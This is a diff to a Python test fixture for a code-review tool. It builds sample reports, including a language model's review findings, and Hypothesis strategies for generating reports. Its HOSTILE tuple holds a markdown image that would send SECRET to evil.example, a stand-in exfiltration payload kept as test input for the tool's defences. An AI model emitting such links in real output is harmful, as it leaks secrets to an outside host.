@@ -8,11 +8,14 @@ from reviewer.model import (
     Category,
     Confidence,
     CoverageOfFile,
+    Effort,
     FileSummary,
     Finding,
     Heuristic,
     Judged,
+    LeftOut,
     Mode,
+    ModelReview,
     Outcome,
     PatchCoverage,
     Proof,
@@ -29,6 +32,7 @@ from reviewer.model import (
     Trust,
     Verdict,
 )
+from reviewer.modelling import TOOL
 
 HOSTILE = (
     "![x](https://evil.example/?d=SECRET)",
@@ -100,6 +104,67 @@ def finding(
     )
 
 
+def said(rule: str, start: int, **fields: object) -> Finding:
+    """A finding of the model."""
+    plain: dict[str, object] = {
+        "tool": TOOL,
+        "message": "callers take None for an answer, and this raises KeyError",
+        "severity": Severity.WARNING,
+        "category": Category.CORRECTNESS,
+    }
+    return finding(rule, start=start, **(plain | fields))
+
+
+SAID = {
+    Standing.FILE: "about the file as a whole",
+    Standing.BODY: "below warning",
+    Standing.CAPPED: "beyond the 5 inline comments of model.inline",
+    Standing.MERGED: "ruff/S608 says it already",
+    Standing.OFF_DIFF: "the change did not touch these lines",
+    Standing.KNOWN: "in the baseline",
+    Standing.IGNORED: "switched off by rules",
+    Standing.UNPROVEN: "claim: refutes itself",
+}
+
+
+OVER = "the 600 seconds of model.seconds were over"
+MISSED = f"not asked about 2 places of the change: {OVER}"
+
+
+def review_by_model(**fields: object) -> ModelReview:
+    """The model's part of a review, with hostile text in it."""
+    made = ModelReview(
+        model="qwen2.5-coder-7b",
+        weights="5e" * 32,
+        engine="reviewer",
+        version="0.1.0",
+        context=16384,
+        units=14,
+        missed=2,
+        left_out=(
+            LeftOut("src/shop/orders.py", 100, 130, OVER),
+            LeftOut("src/café\udce9\n.py", 1, 9, OVER),
+            LeftOut("assets/model.bin", 0, 0, "binary"),
+            LeftOut("src/shop/orders.py", 7, 7, f"only white space {HOSTILE[1]}"),
+        ),
+        prompts=(("review", "1a" * 32), ("rewrite", "2b" * 32), ("verify", "3c" * 32)),
+        shape="4d" * 32,
+        settings=(("reach", "callees"), ("samples", "1"), ("temperature", "0.0")),
+        effort=Effort(
+            asked=12,
+            cached=3,
+            requests=10,
+            repaired=1,
+            prompt_tokens=41_234,
+            cached_tokens=30_000,
+            answer_tokens=2_345,
+            seconds=(("context", 0.12), ("ask", 31.5), ("prove", 1.25)),
+            checkpoint=f"42:{'6f' * 32}",
+        ),
+    )
+    return replace(made, **fields)  # type: ignore[arg-type]
+
+
 def sample() -> Report:
     """A report with every standing, outcome and kind of place, and with hostile text in it."""
     judged = (
@@ -169,19 +234,51 @@ def sample() -> Report:
             44,
         ),
         Judged(
-            finding(
-                "removed-check",
-                tool="model",
-                message="the check of the owner is gone",
+            said(
+                "security",
                 start=12,
+                message="the check of the owner is gone",
                 side=Side.OLD,
                 quote="    assert owner(order)",
-                severity=Severity.WARNING,
                 confidence=Confidence.LOW,
+                category=Category.SECURITY,
             ),
             Standing.INLINE,
             "on a removed line",
             12,
+        ),
+        Judged(
+            said(
+                "bug",
+                start=60,
+                message="the last page is lost when the total is no multiple of the size",
+                quote="    pages = total // size",
+                suggestion=Suggestion(
+                    Span("src/shop/orders.py", 60, 60),
+                    "    pages = -(-total // size)",
+                    Proof.CLEAN,
+                ),
+            ),
+            Standing.INLINE,
+            "on a line of the change",
+            60,
+        ),
+        Judged(
+            said(
+                "resource",
+                start=63,
+                message="the lock stays locked when `update` fails",
+                quote="    lock.acquire()",
+                suggestion=Suggestion(
+                    Span("src/shop/orders.py", 63, 63),
+                    "    with lock",
+                    Proof.UNCHECKED,
+                    "line 63 would not parse: expected ':'",
+                ),
+            ),
+            Standing.INLINE,
+            "on a line of the change",
+            63,
         ),
         Judged(
             finding(
@@ -202,6 +299,15 @@ def sample() -> Report:
             for number, standing in enumerate(Standing, 1)
             if standing not in (Standing.INLINE, Standing.FILE)
         ),
+        *(
+            Judged(said("contract", start=80 + n, occurrence=n), standing, SAID.get(standing, ""))
+            for n, standing in enumerate(Standing)
+            if standing is not Standing.INLINE
+        ),
+        Judged(said("test-gap", start=0), Standing.UNPROVEN, "anchor: quotes nothing"),
+        Judged(
+            said("bug", start=0), Standing.UNPROVEN, f"claim: says that {HOSTILE[6]} is missing"
+        ),
     )
     found = tuple(item.finding for item in judged)
 
@@ -216,7 +322,11 @@ def sample() -> Report:
         verdict=Verdict(
             State.FAILED,
             71.25,
-            ("2 findings of severity error", "coverage of the change is 84.2 %, under 90 %"),
+            (
+                "2 findings of severity error",
+                "coverage of the change is 84.2 %, under 90 %",
+                f"model: {MISSED}",
+            ),
             1,
         ),
         changes=(
@@ -235,7 +345,9 @@ def sample() -> Report:
             run("evil"),
             run("files"),
             run("hidden"),
-            run("model"),
+            run(
+                "model", version="qwen2.5-coder-7b", reason="not asked about 2 places of the change"
+            ),
             run("naming"),
             run("ruff", measures=(Category.SECURITY, Category.CORRECTNESS)),
             run("shellcheck", Outcome.SKIPPED, reason="no shell script", concerned=False),
@@ -261,6 +373,7 @@ def sample() -> Report:
             Heuristic(Category.TESTS, 1.0, None, ("no analyzer judged it",)),
         ),
         notes=("the configuration of the base was used", HOSTILE[5]),
+        model=review_by_model(),
     )
 
 
@@ -288,8 +401,10 @@ def reports() -> st.SearchStrategy[Report]:
     percent = st.none() | st.floats(0, 100)
     numbers = st.lists(st.integers(1, 10**6), max_size=5, unique=True).map(sorted).map(tuple)
     paths = st.sampled_from(("a.py", "b/c d.py", "-x", "e\udcff\n.sh")) | words.filter(bool)
-    suggestions = st.builds(Suggestion, spans(paths), words, st.sampled_from(Proof))
-    tools = st.sampled_from(("ruff", "bandit", "trivy"))
+    suggestions = st.builds(
+        Suggestion, spans(paths), words, st.sampled_from(Proof), st.just("") | words
+    )
+    tools = st.sampled_from(("ruff", "bandit", TOOL))
     findings = st.builds(
         Finding,
         tool=tools,
@@ -357,7 +472,34 @@ def reports() -> st.SearchStrategy[Report]:
                 max_size=3,
             ).map(tuple),
             notes=many,
+            model=st.none() | model_reviews(paths, words),
         ),
+    )
+
+
+def model_reviews(
+    paths: st.SearchStrategy[str], words: st.SearchStrategy[str]
+) -> st.SearchStrategy[ModelReview]:
+    """What a report can claim of a model."""
+    count = st.integers(0, 2**31 - 1)
+    places = st.builds(LeftOut, paths, st.integers(0, 99), st.integers(0, 99), words)
+    pairs = st.lists(st.tuples(words, words), max_size=2).map(tuple)
+    seconds = st.lists(st.tuples(words, st.floats(0, 10**4)), max_size=2).map(tuple)
+    efforts = st.builds(Effort, *[count] * 7, seconds=seconds, checkpoint=words)
+    return st.builds(
+        ModelReview,
+        model=words,
+        weights=words,
+        engine=words,
+        version=words,
+        context=count,
+        units=count,
+        missed=count,
+        left_out=st.lists(places, max_size=3).map(tuple),
+        prompts=pairs,
+        shape=words,
+        settings=pairs,
+        effort=efforts,
     )
 
 
@@ -365,6 +507,6 @@ def _consistent(report: Report) -> Report:
     found = [item.finding for item in report.judged]
     runs = tuple(
         replace(run, tool=tool, findings=tuple(item for item in found if item.tool == tool))
-        for run, tool in zip(report.runs, ("ruff", "bandit", "trivy"), strict=True)
+        for run, tool in zip(report.runs, ("ruff", "bandit", TOOL), strict=True)
     )
     return replace(report, runs=runs)
